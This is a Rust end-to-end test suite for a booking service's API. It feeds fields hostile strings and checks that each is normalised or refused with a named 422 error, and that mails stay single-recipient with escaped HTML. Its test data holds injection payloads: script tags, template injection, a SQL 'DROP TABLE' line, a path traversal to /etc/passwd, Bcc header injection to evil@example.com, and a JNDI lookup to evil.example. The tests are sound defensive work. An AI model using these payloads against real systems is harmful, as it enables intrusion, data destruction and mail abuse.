//! Every text somebody can send, as nobody should: control characters, half characters, text that turns around, text that
//! is longer than it may be by one, text that is HTML, a template, or the next header of a mail.
//!
//! Each is either accepted and comes back exactly in its normal form, which is the same text without the white space around
//! it, or it is a 422 that names the field and changes nothing. What is accepted reaches a mail as text.

use std::collections::BTreeMap;

use end_to_end::{Answer, Api, PATIENCE, Person, Pontual, Profile, Shop, in_days};
use futures_util::future::join_all;
use serde_json::{Value, json};
use tokio::time::Instant;

const PASSWORD: &str = "correct horse battery";

/// A text as it is written in JSON, and what it says; half a character says nothing.
struct Strange {
    name: &'static str,
    json: String,
    text: Option<String>,
}

fn strange(max: usize) -> Vec<Strange> {
    let text = |name, text: &str| {
        let json = Value::from(text).to_string();
        Strange { name, json: json[1..json.len() - 1].to_owned(), text: Some(text.to_owned()) }
    };
    let half = |name, json: &str| Strange { name, json: json.to_owned(), text: None };
    vec![
        text("nothing", ""),
        text("spaces", "   "),
        text("white space of all kinds", "\u{a0}\u{3000}\u{2009}\t\n"),
        text("one letter", "a"),
        text("NUL", "Bia\0Lima"),
        text("NUL at the end", "Bia Lima\0"),
        text("only NUL", "\0\0\0"),
        text("a bell", "Bia\u{7}Lima"),
        text("an escape sequence", "Bia\u{1b}[31mLima"),
        text("a delete", "Bia\u{7f}Lima"),
        text("a C1 control", "Bia\u{85}\u{9b}Lima"),
        text("a new line", "Bia\nLima"),
        text("a tab", "Bia\tLima"),
        text("the next header", "Bia\r\nBcc: evil@example.com"),
        text("a carriage return", "Bia\rLima"),
        half("half an emoji", r"Bia \ud83d Lima"),
        half("the other half", r"Bia \udc69 Lima"),
        half("both halves, turned around", r"Bia \udc69\ud83d Lima"),
        half("half an emoji at the end", r"Bia Lima \ud83d"),
        text("text that turns around", "Bia\u{202e}amiL"),
        text("an embedding", "Bia\u{202a}Lima\u{202c}"),
        text("an isolate", "Bia\u{2066}Lima\u{2069}"),
        text("a byte order mark", "\u{feff}Bia Lima"),
        text("a family of joined emoji", "👩\u{200d}👩\u{200d}👧\u{200d}👦 Lima"),
        text("a zero-width non-joiner", "می\u{200c}خواهم"),
        text("a zero-width space", "Bia\u{200b}Lima"),
        text("combining marks, many", &format!("Bi{}a", "\u{301}\u{323}".repeat(40))),
        text("a composed é", "Jos\u{e9}"),
        text("a decomposed é", "Jose\u{301}"),
        text("spaces around", "  Bia Lima  "),
        text("wide spaces around", "\u{3000}Bia Lima\u{a0}"),
        text("a line separator", "Bia\u{2028}Lima\u{2029}Souza"),
        text("Arabic", "مرحبا بالعالم"),
        text("Hebrew and Latin", "שלום Bia"),
        text("homoglyphs", "\u{412}\u{456}\u{430} Lim\u{430}"),
        text("noncharacters", "Bia \u{fffe}\u{fdd0}\u{1ffff}"),
        text("private use and tags", "Bia \u{e000}\u{e0041}\u{10ffff}"),
        text("the replacement character", "Bia \u{fffd}"),
        text("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
        text("a template", "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>"),
        text("SQL", "Robert'); DROP TABLE events;--"),
        text("formats", "%s%n %d {0} {} \\0 \\u0000"),
        text("a path", "../../etc/passwd"),
        text("an encoded word", "=?utf-8?B?QmNjOiBl?="),
        text("quotes and backslashes", "\"Bia\" \\\" 'Lima' `x`"),
        text("a word that is none", "NULL"),
        text("as many emoji as there may be", &"😀".repeat(max)),
        text("one emoji more", &"😀".repeat(max + 1)),
        text("as long as may be, and spaces", &format!("  {}  ", "é".repeat(max))),
        text("far too long", &"a".repeat(max * 4 + 10)),
    ]
}

/// What becomes of a text between these lengths; `None`: it is refused.
fn normal(text: &str, (min, max): (usize, usize), lines: bool) -> Option<String> {
    let text = text.trim();
    let turns = |c| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
    let control = |c: char| c.is_control() && !(lines && (c == '\n' || c == '\t'));
    let good = (min..=max).contains(&text.chars().count())
        && !text.chars().any(|c| control(c) || turns(c));
    good.then(|| text.to_owned())
}

/// Where what was accepted comes back.
#[derive(Clone, Copy)]
enum Back {
    Me(&'static str),
    Shop,
    Service(&'static str),
    Appointment(&'static str),
}

/// A field of a request. `@` in the body is the text; `#` in path or body is what each try has its own of.
struct Field {
    who: Caller,
    method: &'static str,
    path: String,
    body: String,
    pointer: &'static str,
    /// Lengths and whether lines are allowed; `None`: not a free text, and none of the strange ones is one.
    free: Option<((usize, usize), bool)>,
    back: Option<Back>,
}

#[derive(Clone, Copy, PartialEq)]
enum Caller {
    Nobody,
    Ana,
    Bia,
}

struct World {
    pontual: Pontual,
    pool: sqlx::PgPool,
    ana: Shop,
    bia: Person,
    /// A standing appointment of theirs.
    appointment: String,
    booked: u64,
}

impl World {
    async fn found() -> Self {
        let pontual = Pontual::start(Profile::SingleNode).await;
        let ana = pontual.provider("Ana").await;
        let bia = pontual.client("Bia").await;
        let pool = pontual.pool().await;
        let mut world = Self { pontual, pool, ana, bia, appointment: String::new(), booked: 0 };
        world.appointment = world.book().await;
        world
    }

    fn api(&self, caller: Caller) -> Api {
        match caller {
            Caller::Nobody => self.pontual.nobody(),
            Caller::Ana => self.ana.owner.api.clone(),
            Caller::Bia => self.bia.api.clone(),
        }
    }

    /// A start nobody has booked yet.
    fn start(&mut self) -> String {
        let (day, hour) = (self.booked / 8, self.booked % 8);
        self.booked += 1;
        in_days(3 + day, &format!("{}:00:00Z", 12 + hour))
    }

    async fn book(&mut self) -> String {
        let start = self.start();
        let booked = self.bia.book(&self.ana, &start).await.expect(201);
        booked.body["id"].as_str().expect("a text").to_owned()
    }

    async fn events(&self) -> i64 {
        sqlx::query_scalar("SELECT count(*) FROM events")
            .fetch_one(&self.pool)
            .await
            .expect("the log can be counted")
    }

    async fn send(&self, field: &Field, json: &str, own: &str) -> Answer {
        let (path, body) = (field.path.replace('#', own), field.body.replace('#', own));
        let api = self.api(field.who);
        let request = api.request(field.method, &path).header("content-type", "application/json");
        api.send(request.body(body.replace('@', json))).await
    }

    async fn read(&self, field: &Field, back: Back, answer: &Answer, own: &str) -> Value {
        // What changes nothing has no position; whoever asks for what was before it needs none.
        let after = answer.header("pontual-position").unwrap_or_default().to_owned();
        match back {
            Back::Me(name) => {
                self.api(field.who).get_after("/api/auth/me", &after).await.expect(200).body[name]
                    .clone()
            }
            Back::Shop => {
                let path = format!("/api/providers/{}", self.ana.slug);
                let page = self.pontual.nobody().get_after(&path, &after).await.expect(200).body;
                let flat = page["business_name"].clone();
                if flat.is_null() { page["provider"]["business_name"].clone() } else { flat }
            }
            Back::Service(name) => {
                let path = format!("/api/services/provider/{}", self.ana.id);
                let list = self.pontual.nobody().get_after(&path, &after).await.expect(200).body;
                list["items"][0][name].clone()
            }
            Back::Appointment(name) => {
                let id = answer.body["id"].as_str().unwrap_or(own);
                let path = format!("/api/appointments/{id}");
                self.ana.owner.api.get_after(&path, &after).await.expect(200).body[name].clone()
            }
        }
    }
}

fn fields(world: &World, service: &str) -> Vec<Field> {
    use Back::{Appointment, Me, Service, Shop};
    use Caller::{Ana, Bia, Nobody};
    let field = |who, route: &str, body: &str, pointer, free, back| {
        let (method, path) = route.split_once(' ').expect("it is of the form it was made in");
        let method = ["GET", "POST", "PUT", "DELETE"]
            .into_iter()
            .find(|m| *m == method)
            .expect("it is of the form it was made in");
        Field { who, method, path: path.to_owned(), body: body.to_owned(), pointer, free, back }
    };
    let (name, service_name) = (Some(((2, 255), false)), Some(((1, 255), false)));
    let (description, note) = (Some(((1, 4000), true)), Some(((1, 2000), true)));
    let mut fields = vec![];
    let register = "POST /api/auth/register";
    // Registering accepts in the test of mails: here it would make an account each time.
    for (body, pointer, free) in [
        (r#"{"name":"@","email":"x@example.com","password":"correct horse"}"#, "/name", name),
        (r#"{"name":"Bia Lima","email":"@","password":"correct horse"}"#, "/email", None),
        (
            r#"{"name":"Bia Lima","phone":"@","email":"x@example.com","password":"correct horse"}"#,
            "/phone",
            None,
        ),
        (
            r#"{"name":"Bia Lima","locale":"@","email":"x@example.com","password":"correct horse"}"#,
            "/locale",
            None,
        ),
        (
            r#"{"name":"Bia Lima","time_zone":"@","email":"x@example.com","password":"correct horse"}"#,
            "/time_zone",
            None,
        ),
        (
            r#"{"name":"Bia Lima","role":"@","email":"x@example.com","password":"correct horse"}"#,
            "/role",
            None,
        ),
    ] {
        fields.push(field(
            Nobody,
            register,
            &body.replace("x@example", "x\\u0040example"),
            pointer,
            free,
            None,
        ));
    }
    fields.push(field(Nobody, "POST /api/auth/forgot", r#"{"email":"@"}"#, "/email", None, None));
    let profile = "PUT /api/users/profile";
    for (body, pointer, free, back) in [
        (r#"{"name":"@","locale":"en"}"#, "/name", name, Some(Me("name"))),
        (r#"{"name":"Bia Lima","locale":"@"}"#, "/locale", None, None),
        (r#"{"name":"Bia Lima","phone":"@","locale":"en"}"#, "/phone", None, None),
        (r#"{"name":"Bia Lima","time_zone":"@","locale":"en"}"#, "/time_zone", None, None),
    ] {
        fields.push(field(Bia, profile, body, pointer, free, back));
    }
    let email = r#"{"email":"@","password":"correct horse battery"}"#;
    fields.push(field(Bia, "PUT /api/users/email", email, "/email", None, None));
    let open = "POST /api/providers";
    for (body, pointer, free) in [
        (r#"{"business_name":"@","slug":"a-shop"}"#, "/business_name", name),
        (r#"{"business_name":"A shop","slug":"@"}"#, "/slug", None),
        (r#"{"business_name":"A shop","slug":"a-shop","time_zone":"@"}"#, "/time_zone", None),
        (
            r#"{"business_name":"A shop","slug":"a-shop","hourly_rate":{"amount_minor":1,"currency":"@"}}"#,
            "/hourly_rate/currency",
            None,
        ),
        (
            r#"{"business_name":"A shop","slug":"a-shop","service":{"name":"@","duration_minutes":60}}"#,
            "/service/name",
            service_name,
        ),
        (
            r#"{"business_name":"A shop","slug":"a-shop","service":{"name":"x","description":"@","duration_minutes":60}}"#,
            "/service/description",
            description,
        ),
    ] {
        fields.push(field(Bia, open, body, pointer, free, None));
    }
    let shop = r#"{"business_name":"@"}"#;
    fields.push(field(Ana, "PUT /api/providers/profile", shop, "/business_name", name, Some(Shop)));
    let rate = r#"{"business_name":"Ana's","hourly_rate":{"amount_minor":1,"currency":"@"}}"#;
    fields.push(field(
        Ana,
        "PUT /api/providers/profile",
        rate,
        "/hourly_rate/currency",
        None,
        None,
    ));
    let zone = r#"{"time_zone":"@","weekly":{}}"#;
    fields.push(field(Ana, "PUT /api/providers/hours", zone, "/time_zone", None, None));
    let day = format!("PUT /api/providers/overrides/{}", &in_days(20, "")[..10]);
    let windows = r#"{"windows":[{"from":"@","to":"18:00"}]}"#;
    fields.push(field(Ana, &day, windows, "/windows/0/from", None, None));
    let policy = r#"{"minimum_notice_minutes":0,"horizon_days":90,"cancellation_window_minutes":0,"confirmation":"@"}"#;
    fields.push(field(Ana, "PUT /api/providers/policy", policy, "/confirmation", None, None));
    for (route, accepts) in
        [("POST /api/services".to_owned(), false), (format!("PUT /api/services/{service}"), true)]
    {
        for (body, pointer, free, back) in [
            (r#"{"name":"@","duration_minutes":60}"#, "/name", service_name, Some(Service("name"))),
            (
                r#"{"name":"Corte","description":"@","duration_minutes":60}"#,
                "/description",
                description,
                Some(Service("description")),
            ),
            (
                r#"{"name":"Corte","duration_minutes":60,"price":{"amount_minor":1,"currency":"@"}}"#,
                "/price/currency",
                None,
                None,
            ),
        ] {
            fields.push(field(Ana, &route, body, pointer, free, back.filter(|_| accepts)));
        }
    }
    let shop = &world.ana.id;
    let book = "POST /api/appointments";
    let notes = format!(r#"{{"provider_id":"{shop}","start":"START","notes":"@"}}"#);
    fields.push(field(Bia, book, &notes, "/notes", note, Some(Appointment("client_notes"))));
    let start = format!(r#"{{"provider_id":"{shop}","start":"@"}}"#);
    fields.push(field(Bia, book, &start, "/start", None, None));
    let start = in_days(3, "12:00:00Z");
    let provider = format!(r#"{{"provider_id":"@","start":"{start}"}}"#);
    fields.push(field(Bia, book, &provider, "/provider_id", None, None));
    let service = format!(r#"{{"provider_id":"{shop}","service_id":"@","start":"{start}"}}"#);
    fields.push(field(Bia, book, &service, "/service_id", None, None));
    let back = Some(Appointment("status_reason"));
    fields.push(field(
        Bia,
        "DELETE /api/appointments/#",
        r#"{"reason":"@"}"#,
        "/reason",
        note,
        back,
    ));
    let declined = r#"{"status":"declined","reason":"@"}"#;
    fields.push(field(Ana, "PUT /api/appointments/#/status", declined, "/reason", note, back));
    let status = r#"{"status":"@"}"#;
    fields.push(field(Ana, "PUT /api/appointments/#/status", status, "/status", None, None));
    let moved = r#"{"start":"@"}"#;
    fields.push(field(Bia, "POST /api/appointments/#/reschedule", moved, "/start", None, None));
    fields
}

#[tokio::test]
async fn strange_texts_come_back_as_they_were_or_are_refused_by_the_name_of_their_field() {
    let mut world = World::found().await;
    let services =
        world.pontual.nobody().get(&format!("/api/services/provider/{}", world.ana.id)).await;
    let service = services.body["items"][0]["id"].as_str().expect("a text").to_owned();
    let (mut wrong, mut accepted, mut refused) = (Vec::new(), 0, 0);
    for field in fields(&world, &service) {
        let max = field.free.map_or(100, |((_, max), _)| max);
        for strange in strange(max) {
            let what =
                format!("{} {}: {}: {}", field.method, field.path, field.pointer, strange.name);
            let wanted = match (&strange.text, field.free) {
                (Some(text), Some((lengths, lines))) => normal(text, lengths, lines),
                _ => None,
            };
            if wanted.is_some() && field.back.is_none() {
                continue;
            }
            // What is accepted ends an appointment, or takes a slot.
            let mut own = world.appointment.clone();
            let mut body = field.body.clone();
            if wanted.is_some() && field.path.contains('#') {
                own = world.book().await;
            }
            if body.contains("START") {
                let start = if wanted.is_some() { world.start() } else { in_days(40, "12:00:00Z") };
                body = body.replace("START", &start);
            }
            let field = Field { path: field.path.clone(), body, ..field };
            let before = world.events().await;
            let answer = world.send(&field, &strange.json, &own).await;
            let after = world.events().await;
            match (wanted, field.back) {
                (Some(wanted), Some(back)) if answer.status < 300 => {
                    let found = world.read(&field, back, &answer, &own).await;
                    if found != wanted {
                        wrong.push(format!("{what}: came back as {found:?}"));
                    }
                    accepted += 1;
                }
                (Some(_), _) => wrong.push(format!("{what}: {} {}", answer.status, answer.body)),
                (None, _) => {
                    let named = answer.status == 422
                        && answer.problem() == "invalid-input"
                        && answer.body["errors"][0]["pointer"] == field.pointer;
                    if !named || after != before {
                        let wrote = after - before;
                        wrong.push(format!(
                            "{what}: {} {} {wrote} events",
                            answer.status, answer.body
                        ));
                    }
                    refused += 1;
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{} of {}: {wrong:#?}", wrong.len(), accepted + refused);
    assert!(accepted > 100 && refused > 1000, "{accepted} {refused}");
    assert!(!world.pontual.log().contains("panicked"), "{}", world.pontual.log());
}

#[tokio::test]
async fn strange_credentials_let_nobody_in_and_strange_passwords_are_what_they_are() {
    let pontual = Pontual::start(Profile::SingleNode).await;
    let bia = pontual.client("Bia").await;
    let nobody = pontual.nobody();
    let raw = |path: &'static str, body: String| {
        let request =
            nobody.request("POST", path).header("content-type", "application/json").body(body);
        let nobody = nobody.clone();
        async move { nobody.send(request).await }
    };
    let cases = strange(128);
    for some in cases.chunks(8) {
        let tries = some.iter().flat_map(|strange| {
            let by_email = format!(r#"{{"email":"{}","password":"{PASSWORD}"}}"#, strange.json);
            let by_password =
                format!(r#"{{"email":"{}","password":"{}"}}"#, bia.email, strange.json);
            [raw("/api/auth/login", by_email), raw("/api/auth/login", by_password)]
        });
        for (n, answer) in join_all(tries).await.into_iter().enumerate() {
            let strange = &some[n / 2];
            let wanted = if strange.text.is_some() { 401 } else { 422 };
            assert_eq!(answer.status, wanted, "{}: {}", strange.name, answer.body);
        }
    }
    for strange in &cases {
        for (path, body, statuses) in [
            ("/api/auth/confirm", format!(r#"{{"token":"{}"}}"#, strange.json), [422, 422]),
            (
                "/api/auth/confirm-email-change",
                format!(r#"{{"token":"{}"}}"#, strange.json),
                [422, 422],
            ),
            ("/api/auth/refresh", format!(r#"{{"refresh_token":"{}"}}"#, strange.json), [401, 422]),
            (
                "/api/auth/reset",
                format!(
                    r#"{{"token":"{}","password":"{PASSWORD}","password_confirmation":"{PASSWORD}"}}"#,
                    strange.json
                ),
                [422, 422],
            ),
        ] {
            let answer = raw(path, body).await;
            let wanted = if strange.text.is_some() { statuses[0] } else { statuses[1] };
            assert_eq!(answer.status, wanted, "{path}: {}: {}", strange.name, answer.body);
        }
    }
    // Passwords are counted in characters and taken as they are: not trimmed, not folded, not cut.
    let mut current = PASSWORD.to_owned();
    let mut token = bia.api.token.clone();
    for (password, good) in [
        ("😀".repeat(7), false),
        ("😀".repeat(8), true),
        ("😀".repeat(128), true),
        ("😀".repeat(129), false),
        ("  spaces around  ".to_owned(), true),
        ("a\0b\0c\0d\0e\u{7f}\u{202e}".to_owned(), true),
        ("lines\r\nand\ttabs\n".to_owned(), true),
        ("Jose\u{301} Jose\u{301}".to_owned(), true),
    ] {
        let api = Api { token: token.clone(), ..nobody.clone() };
        let change = json!({ "old_password": current, "password": password, "password_confirmation": password });
        let answer = api.put("/api/users/password", change).await;
        if !good {
            assert_eq!(
                (answer.status, &answer.body["errors"][0]["pointer"]),
                (422, &json!("/password"))
            );
            continue;
        }
        token = answer.expect(200).body["access_token"].as_str().map(str::to_owned);
        current.clone_from(&password);
        let sign_in = |password: String| {
            nobody.post("/api/auth/login", json!({ "email": bia.email, "password": password }))
        };
        let near = [
            password.trim().to_owned(),
            format!("{password} "),
            password.to_uppercase(),
            password.replace("e\u{301}", "é"),
            password.split('\0').next().expect("it is of the form it was made in").to_owned(),
        ];
        sign_in(password.clone()).await.expect(200);
        for other in near.into_iter().filter(|other| *other != password) {
            sign_in(other).await.expect(401);
        }
    }
    assert!(!pontual.log().contains("panicked"), "{}", pontual.log());
}

/// The header fields of a mail, unfolded, and its body.
fn parsed(mail: &str) -> (Vec<(String, String)>, &str) {
    let (head, body) = mail.split_once("\r\n\r\n").expect("a mail has a head");
    let unfolded = head.replace("\r\n ", " ").replace("\r\n\t", " ");
    let fields = unfolded.split("\r\n").map(|line| {
        let (name, value) = line.split_once(": ").unwrap_or_else(|| panic!("no header: {line:?}"));
        (name.to_owned(), value.to_owned())
    });
    (fields.collect(), body)
}

/// A mailbox without the name before it.
fn bare(mailbox: &str) -> String {
    let (mut bare, mut quoted, mut escaped) = (String::new(), false, false);
    for c in mailbox.chars() {
        match c {
            _ if escaped => escaped = false,
            '\\' if quoted => escaped = true,
            '"' => quoted = !quoted,
            _ if quoted => {}
            c => bare.push(c),
        }
    }
    bare.split(' ').filter(|word| !(word.starts_with("=?") && word.ends_with("?="))).collect()
}

#[tokio::test]
async fn a_strange_name_writes_one_mail_to_one_address_and_is_text_in_it() {
    let pontual = Pontual::start(Profile::SingleNode).await;
    let nobody = pontual.nobody();
    let markup = "Bia <script>alert(1)</script> {{7*7}} {% raw %} & \"q\" 'a'";
    let long = "😀".repeat(255);
    let names = [
        markup,
        "\"Bia\" <evil@example.com>, \"x",
        "Bia, evil@example.com",
        "Bia; evil@example.com",
        "evil@example.com",
        "Bia (evil@example.com)",
        "\\\" <evil@example.com>",
        "=?utf-8?Q?Bia=0D=0ABcc:_evil@example.com?=",
        "Bia\u{2028}Bcc: evil@example.com",
        "Bcc: evil@example.com",
        "👩\u{200d}👩\u{200d}👧\u{200d}👦 Família",
        "Jose\u{301} مرحبا",
        "${jndi:ldap://evil.example/x} %0d%0aBcc: evil@example.com",
        ".",
        &long,
        &"a b".repeat(85),
    ];
    let mut registered = 0;
    for (n, name) in names.iter().enumerate() {
        let body = json!({ "name": name, "email": format!("strange{n}@example.com"), "password": PASSWORD, "locale": "en" });
        let answer = nobody.post("/api/auth/register", body).await;
        let wanted = if name.chars().count() < 2 { 422 } else { 202 };
        assert_eq!(answer.status, wanted, "{name}: {}", answer.body);
        registered += usize::from(wanted == 202);
    }
    for name in
        ["Bia\r\nBcc: evil@example.com", "Bia\nBcc: evil@example.com", "Bia\r\n\r\n<b>body</b>"]
    {
        let body = json!({ "name": name, "email": "split@example.com", "password": PASSWORD });
        nobody.post("/api/auth/register", body).await.expect(422);
    }
    let deadline = Instant::now() + PATIENCE;
    while pontual.mails().len() < registered {
        assert!(Instant::now() < deadline, "{} of {registered} mails", pontual.mails().len());
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let mails = pontual.mails();
    assert_eq!(mails.len(), registered);
    let mut recipients = BTreeMap::new();
    for mail in &mails {
        let (fields, body) = parsed(mail);
        let mut names: Vec<&str> = fields.iter().map(|(name, _)| name.as_str()).collect();
        names.sort_unstable();
        let known = [
            "Auto-Submitted",
            "Content-Type",
            "Date",
            "From",
            "MIME-Version",
            "Message-ID",
            "Subject",
            "To",
            "X-Entity-Ref-ID",
        ];
        assert_eq!(names, known, "{mail}");
        let field = |name: &str| {
            fields
                .iter()
                .find(|(known, _)| known == name)
                .expect("it is of the form it was made in")
                .1
                .clone()
        };
        let to = bare(&field("To"));
        assert!(to.starts_with("<strange") && to.ends_with("@example.com>"), "{}", field("To"));
        assert_eq!(to.matches('@').count(), 1, "{}", field("To"));
        assert!(!field("Subject").contains("evil"), "{}", field("Subject"));
        assert!(!body.to_lowercase().contains("\r\nbcc:"), "{body}");
        let (_, html) = body.split_once("text/html").expect("a mail has two forms");
        assert!(!html.contains("<script") && !html.contains("<b>body"), "{html}");
        *recipients.entry(to).or_insert(0) += 1;
    }
    assert!(recipients.values().all(|count| *count == 1), "{recipients:?}");
    assert_eq!(recipients.len(), registered);

    let mail = pontual.mail_to("strange0@example.com").await;
    let (text, html) = mail.split_once("text/html").expect("a mail has two forms");
    let lines = |part: &str| part.replace("\r\n", "\n");
    // In the text as it was written, dashed across lines or not; in HTML no tag and no quote of it is left.
    assert!(lines(text).contains(&format!("Hello, {markup}!")), "{text}");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;") && html.contains("{{7*7}}"), "{html}");
    assert!(html.contains("{% raw %} &amp; &quot;q&quot; &#x27;a&#x27;!"), "{html}");
}

#[tokio::test]
async fn one_address_is_one_account_however_it_is_written_and_alike_is_not_the_same() {
    let pontual = Pontual::start(Profile::SingleNode).await;
    let (nobody, pool) = (pontual.nobody(), pontual.pool().await);
    let register = |email: &str| {
        let body =
            json!({ "name": "Bia Lima", "email": email, "password": PASSWORD, "locale": "en" });
        let nobody = nobody.clone();
        async move { nobody.post("/api/auth/register", body).await }
    };
    let accounts = || {
        let pool = pool.clone();
        async move {
            sqlx::query_scalar::<_, i64>("SELECT count(*) FROM claims WHERE kind = 'email'")
                .fetch_one(&pool)
                .await
                .expect("the log can be counted")
        }
    };
    let mut count = 0;
    for (email, normal, new) in [
        ("Kate.Test@Example.COM", "kate.test@example.com", true),
        ("kate.test@example.com", "kate.test@example.com", false),
        ("KATE.TEST@EXAMPLE.COM", "kate.test@example.com", false),
        ("  kate.test@example.com\n", "kate.test@example.com", false),
        // The sign for kelvin is a capital k.
        ("\u{212a}ate.test@example.com", "kate.test@example.com", false),
        // Cyrillic letters are other letters, and dots and plus signs mean what the recipient's server says.
        ("k\u{430}te.test@example.com", "k\u{430}te.test@example.com", true),
        ("katetest@example.com", "katetest@example.com", true),
        ("kate.test+x@example.com", "kate.test+x@example.com", true),
        // A domain is what DNS has.
        ("ana@EXÄMPLE.com", "ana@xn--exmple-cua.com", true),
        ("ana@xn--exmple-cua.com", "ana@xn--exmple-cua.com", false),
        ("ana@exa\u{308}mple\u{3002}com", "ana@xn--exmple-cua.com", false),
    ] {
        register(email).await.expect(202);
        count += i64::from(new);
        assert_eq!(accounts().await, count, "{email}");
        for written in [email, normal, &normal.to_uppercase()] {
            let person = pontual.sign_in(written, PASSWORD).await;
            let me = person.api.get("/api/auth/me").await.expect(200);
            assert_eq!(me.body["email"], normal, "{written}");
        }
    }
    // The domain is written to as DNS has it.
    pontual.mail_to("<ana@xn--exmple-cua.com>").await;

    let before = (accounts().await, events(&pool).await);
    let (long, longer) =
        (format!("{}@example.com", "a".repeat(65)), format!("a@{}.com", "b.".repeat(130)));
    for email in [
        "",
        "@",
        "a",
        "a@",
        "@b.c",
        "a@b",
        "a@@b.c",
        "a b@c.de",
        "a@b c.de",
        "a@b.c\r\nBcc: evil@example.com",
        "a\r\nBcc: evil@example.com",
        "a@b.c\0",
        "a\0@b.c",
        "\"a b\"@c.de",
        "\"a\"@c.de",
        "a@[127.0.0.1]",
        "a@b.c,d@e.f",
        "a@b.c;d@e.f",
        "a@b.c d@e.f",
        "<a@b.c>",
        "Ana <a@b.c>",
        "a(x)@b.c",
        "a@b.c>",
        "a@b..c",
        ".a@b.c",
        "a.@b.c",
        "a..b@c.de",
        "a@-b.c",
        "a@b-.c",
        "a@b.c.",
        "a\u{202e}@b.c",
        "a\u{200d}b@b.cd",
        "a\u{200b}@b.c",
        "a\u{ad}b@b.c",
        "a@b\u{200b}.c",
        "😀@b.c",
        "a@😀.c",
        "a\u{ff20}b.c",
        "e\u{301}@b.c",
        "\u{130}@b.c",
        "a@b_c.de",
        "a@b.c/d",
        "a@b.c?x",
        "a@b.c#x",
        "{{7*7}}@b.c@d",
        "<script>@b.c",
        &long,
        &longer,
    ] {
        let answer = register(email).await;
        assert_eq!(
            (answer.status, answer.problem()),
            (422, "invalid-input"),
            "{email:?}: {}",
            answer.body
        );
        assert_eq!(answer.body["errors"][0]["pointer"], "/email", "{email:?}");
    }
    assert_eq!((accounts().await, events(&pool).await), before);
    assert!(!pontual.log().contains("panicked"), "{}", pontual.log());
}

async fn events(pool: &sqlx::PgPool) -> i64 {
    sqlx::query_scalar("SELECT count(*) FROM events")
        .fetch_one(pool)
        .await
        .expect("the log can be counted")
}
